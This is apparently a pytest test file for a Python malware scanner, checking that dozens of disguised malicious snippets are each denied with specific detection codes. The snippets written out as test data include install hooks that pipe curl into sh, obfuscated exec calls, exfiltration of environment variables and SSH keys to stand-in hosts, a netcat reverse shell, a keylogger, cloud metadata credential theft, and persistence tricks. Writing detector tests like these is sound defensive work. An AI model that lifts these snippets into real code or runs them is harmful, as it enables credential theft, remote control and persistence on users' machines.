"""More disguises: values by detours, threads, containers, downloads and thefts."""

# one case a line

import pytest

from backstamp.core.verdict import Outcome
from kit.scanning import codes, verdict

CASES = {
    "cfg": ('import os\nCMD = ["pay","load"]\nos.execvp(CMD[0], CMD)\n', ["PYS102"]),
    "hex": ('exec(bytes.fromhex("7072696e742831290a").decode())\n', ["PYS103"]),
    "inputexec": (
        'import socket\ns=socket.socket(); s.connect(("h",1))\nwhile True:\n    exec(s.recv(1024))\n',
        ["PYS104", "PYS118"],
    ),
    "powershell": ('import subprocess\nsubprocess.run(["powershell","-enc","ZQBjAGgAbwA="])\n', ["PYS101"]),
    "setup": (
        'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        install.run(self)\n        os.system("curl http://x.example/p | sh")\nsetup(name="x",cmdclass={"install":I})\n',
        ["PYS101"],
    ),
    "type": ('import os\nT=type("T",(),{"__init__":lambda s: os.system("payload")})\nT()\n', ["PYS102"]),
    "try": ('try:\n    import os\n    os.system("payload")\nexcept Exception: pass\n', ["PYS102"]),
    "with": (
        'import os,contextlib\nwith contextlib.suppress(Exception):\n    os.system("payload")\n',
        ["PYS102"],
    ),
    "nested-fn": (
        'import os\ndef outer():\n    def inner(): os.system("payload")\n    return inner\nouter()()\n',
        ["PYS102"],
    ),
    "global": (
        'import os\nf=None\ndef set_():\n    global f\n    f=os.system\nset_()\nf("payload")\n',
        ["PYS102"],
    ),
    "fmt": ('import os\nos.system("{}{}".format("pay","load"))\n', ["PYS102"]),
    "setattr": ('import os,builtins\nsetattr(builtins,"zz",os.system)\nos.system("payload")\n', ["PYS102"]),
    "reduce": (
        'import os\nclass P:\n    def __reduce__(self): return (os.system,("payload",))\n',
        ["PYS102"],
    ),
    "alias-attr": ('class C: pass\nimport os\nC.x=os\nC.x.system("payload")\n', ["PYS102"]),
    "vars": ('import os\nvars(os)["system"]("payload")\n', ["PYS102", "PYS107"]),
    "dict": ('import os\nos.__dict__["system"]("payload")\n', ["PYS102"]),
    "builtins-exec-alias": (
        'import builtins\ne=builtins.exec\nimport base64\ne(base64.b64decode(b"cHJpbnQoMSk="))\n',
        ["PYS103"],
    ),
    "getattr-builtins": (
        'import builtins,base64\ngetattr(builtins,"ex"+"ec")(base64.b64decode("cHJpbnQoMSk="))\n',
        ["PYS103", "PYS107"],
    ),
    "builtins-attr": ("__builtins__.exec(\"import os;os.system('payload')\")\n", ["PYS102"]),
    "builtins-item": ('__builtins__["exec"]("import os;os.system(\'payload\')")\n', ["PYS102"]),
    "list-append": ('p=[]\nfor c in [112,97,121]:\n    p.append(chr(c))\nexec("".join(p))\n', ["PYS103"]),
    "bytes-list": ("exec(bytes([112,114,105,110,116,40,49,41]))\n", ["PYS103"]),
    "replace": ('import os\nos.system("paXXyload".replace("XX",""))\n', ["PYS102"]),
    "split-join": (
        'exec("".join("p,r,i,n,t,(,1,)".split(",")))\nimport os\nos.system("payload")\n',
        ["PYS102"],
    ),
    "cond-import": (
        'try:\n    import subprocess as sp\nexcept ImportError:\n    sp=None\nif sp:\n    sp.Popen(["payload"])\n',
        ["PYS102"],
    ),
    "env-check": (
        'import os,platform\nif platform.system()=="Linux":\n    os.system("payload")\n',
        ["PYS102"],
    ),
    "while": ('import os\nwhile True:\n    os.system("payload")\n    break\n', ["PYS102"]),
    "gen": ('import os\ndef g():\n    yield os.system("payload")\nnext(g())\n', ["PYS102"]),
    "async-dl": (
        'import aiohttp,asyncio\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with s.get("http://x") as r:\n            exec(await r.text())\nasyncio.run(f())\n',
        ["PYS104", "PYS118"],
    ),
    "http-client": (
        'import http.client\nc=http.client.HTTPSConnection("x.example")\nc.request("GET","/")\nexec(c.getresponse().read())\n',
        ["PYS104", "PYS118"],
    ),
    "tempfile-drop": (
        'import tempfile,os,requests\nd=requests.get("http://x").content\np=os.path.join(tempfile.gettempdir(),"upd.exe")\nopen(p,"wb").write(d)\nos.startfile(p)\n',
        ["PYS104", "PYS118", "PYS124", "PYS127"],
    ),
    "b64-subprocess": (
        'import base64,subprocess\nsubprocess.run(base64.b64decode("cGF5bG9hZCAtLWdv").decode(),shell=True)\n',
        ["PYS102", "PYS103"],
    ),
    "python-c": (
        'import subprocess,sys\nsubprocess.Popen([sys.executable,"-c","import urllib.request as u;exec(u.urlopen(\'http://x\').read())"])\n',
        ["PYS104", "PYS118", "PYS124"],
    ),
    "runpy-dl": (
        'import runpy,urllib.request\nurllib.request.urlretrieve("http://x/a.py","/tmp/a.py")\nrunpy.run_path("/tmp/a.py")\n',
        ["PYS104", "PYS118", "PYS127"],
    ),
    "ctypes-dl": (
        'import ctypes,urllib.request\nurllib.request.urlretrieve("http://x/a.so","/tmp/a.so")\nctypes.CDLL("/tmp/a.so")\n',
        ["PYS104", "PYS118", "PYS127"],
    ),
    "import-module-built": (
        'import importlib\nimportlib.import_module("o"+"s").system("payload")\n',
        ["PYS102", "PYS107"],
    ),
    "code-interactive": (
        "import code\ncode.InteractiveInterpreter().runsource(\"import os; os.system('payload')\")\n",
        ["PYS102"],
    ),
    "functiontype": (
        'import types,marshal,base64\ntypes.FunctionType(marshal.loads(base64.b64decode("4wAAAA==")),globals())()\n',
        ["PYS103"],
    ),
    "os-environ-exfil-urlencode": (
        'import os,urllib.parse,urllib.request\nd=urllib.parse.urlencode(dict(os.environ)).encode()\nurllib.request.urlopen(urllib.request.Request("http://c.example",data=d))\n',
        ["PYS105", "PYS118"],
    ),
    "env-loop": (
        'import os,requests\nout={}\nfor k,v in os.environ.items():\n    out[k]=v\nrequests.post("http://c.example",json=out)\n',
        ["PYS105", "PYS118"],
    ),
    "socket-exfil": (
        'import socket,os\ns=socket.socket(); s.connect(("1.2.3.4",80)); s.sendall(str(os.environ).encode())\n',
        ["PYS105", "PYS117", "PYS118"],
    ),
    "ssh-glob": (
        'import glob,os,requests\nfor f in glob.glob(os.path.expanduser("~/.ssh/*")):\n    requests.post("http://c.example",files={"f":open(f,"rb")})\n',
        ["PYS105", "PYS108", "PYS118"],
    ),
    "netrc-read": (
        'from pathlib import Path\nx=(Path.home()/".aws"/"credentials").read_text()\n',
        ["PYS108"],
    ),
    "pathlib-write": (
        'from pathlib import Path\nPath("~/.config/autostart/x.desktop").expanduser().write_text("x")\n',
        ["PYS110"],
    ),
    "pth": (
        'import site,os\nopen(os.path.join(site.getsitepackages()[0],"x.pth"),"w").write("import os")\n',
        ["PYS110"],
    ),
    "authorized": (
        'import os\nwith open(os.path.expanduser("~/.ssh/authorized_keys"),"a") as f: f.write("ssh-rsa x")\n',
        ["PYS110"],
    ),
    "class-forward-exec-b64": (
        "import base64\nclass M:\n    def forward(self,x):\n        exec(base64.b64decode(self.k))\n        return x\n",
        ["PYS103"],
    ),
    "forward-eval-dl": (
        'import requests\nclass M:\n    def generate(self,x):\n        eval(requests.get("http://x").text)\n',
        ["PYS104"],
    ),
    "hook-thread-subclass": (
        'import threading,os\nclass T(threading.Thread):\n    def run(self): os.system("payload")\nT().start()\n',
        ["PYS102"],
    ),
    "property": (
        'import os\nclass A:\n    @property\n    def x(self): os.system("payload")\nA().x\n',
        ["PYS102"],
    ),
    "staticmethod": (
        'import os\nclass A:\n    @staticmethod\n    def x(c): os.system(c)\nA.x("payload")\n',
        ["PYS102"],
    ),
    "classmethod": (
        'import os\nclass A:\n    @classmethod\n    def x(cls,c): os.system(c)\nA.x("payload")\n',
        ["PYS102"],
    ),
    "kwargs": ('import subprocess\nkw={"args":"payload","shell":True}\nsubprocess.Popen(**kw)\n', ["PYS102"]),
    "args": ('import os\na=("payload",)\nos.system(*a)\n', ["PYS102"]),
    "lambda-default": ('import os\n(lambda s=os.system: s("payload"))()\n', ["PYS102"]),
    "nested-class": ('import os\nclass A:\n    class B:\n        os.system("payload")\n', ["PYS102"]),
    "ternary": ('import os\n(os.system if True else print)("payload")\n', ["PYS102"]),
    "or": ('import os\n(None or os.system)("payload")\n', ["PYS102"]),
    "tuple-idx": ('import os\n(print,os.system)[1]("payload")\n', ["PYS102"]),
    "unpack": ('import os\na,b=os.system,"payload"\na(b)\n', ["PYS102"]),
    "for-fn": ('import os\nfor f in (os.system,):\n    f("payload")\n', ["PYS102"]),
    "exec-in-exec": ('exec("exec(\\"import os; os.system(\'payload\')\\")")\n', ["PYS102"]),
    "compile": ('exec(compile("import os\\nos.system(\'payload\')","<s>","exec"))\n', ["PYS102"]),
    "str-fmt": ('import os\nos.system("%s%s"%("pay","load"))\n', ["PYS102"]),
    "hex-escapes": ('import os\ngetattr(os,"\\x73\\x79\\x73\\x74\\x65\\x6d")("payload")\n', ["PYS102"]),
    "import-in-fn-import": (
        'def _c():\n    from os import system\n    return system\n_c()("payload")\n',
        ["PYS102"],
    ),
    "tarfile": ('import os\nos.popen("payload").read()\n', ["PYS102"]),
    "pip-main": ('import pip\npip.main(["install","http://evil.example/x.tgz"])\n', ["PYS102"]),
    "webbrowser": (
        'import subprocess as s\nfn="check"+"_output"\ngetattr(s,fn)("payload",shell=True)\n',
        ["PYS102", "PYS107"],
    ),
    "discord": (
        'import requests,platform\nrequests.post("https://discord.com/api/webhooks/123/abc",json={"c":platform.node()})\n',
        ["PYS105", "PYS117"],
    ),
    "telegram": (
        'import requests,os\nrequests.get("https://api.telegram.org/bot123:abc/sendMessage?text="+os.getlogin())\n',
        ["PYS105", "PYS117"],
    ),
    "keylogger": (
        'import pynput.keyboard,requests\ndef on(k): requests.post("http://1.2.3.4/k",data=str(k))\npynput.keyboard.Listener(on_press=on).start()\n',
        ["PYS115", "PYS125"],
    ),
    "numpy-re": ("import numpy as np\nnp.testing.runstring(\"import os;os.system('x')\",{})\n", ["PYS102"]),
    "random-os": ('import random\nrandom._os.system("payload")\n', ["PYS102"]),
    "globals-fn": ('import os\ndef zz(): os.system("payload")\nglobals()["zz"]()\n', ["PYS102"]),
    "signal": (
        'import signal,os\nsignal.signal(signal.SIGTERM, lambda *a: os.system("payload"))\n',
        ["PYS102"],
    ),
    "del": ('import os\nclass A:\n    def __del__(self): os.system("payload")\n', ["PYS102"]),
    "getattr-cls": (
        'import subprocess\nclass A:\n    def __setstate__(self,s): subprocess.call("payload",shell=True)\n',
        ["PYS102"],
    ),
    "win": (
        'import os\nos.system("powershell -w hidden -c iwr http://x/y.exe -o y.exe; ./y.exe")\n',
        ["PYS101"],
    ),
    "reg": (
        'import winreg\nimport os\nos.system(r"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y")\n',
        ["PYS101"],
    ),
    "ncat": (
        'import os\nclass M:\n  def forward(s,x): os.system("nc 1.2.3.4 4444 -e /bin/sh")\n',
        ["PYS101"],
    ),
    "meta": (
        'import requests\nr=requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").text\nrequests.post("http://c.example",data=r)\n',
        ["PYS118", "PYS126"],
    ),
}


@pytest.mark.parametrize(("source", "found"), CASES.values(), ids=CASES.keys())
def test_denies_code_which_attacks_when_it_is_loaded(source, found):
    data = source.encode()
    assert (verdict(data, "modeling_x.py").outcome, codes(data, "modeling_x.py")) == (Outcome.DENY, found)
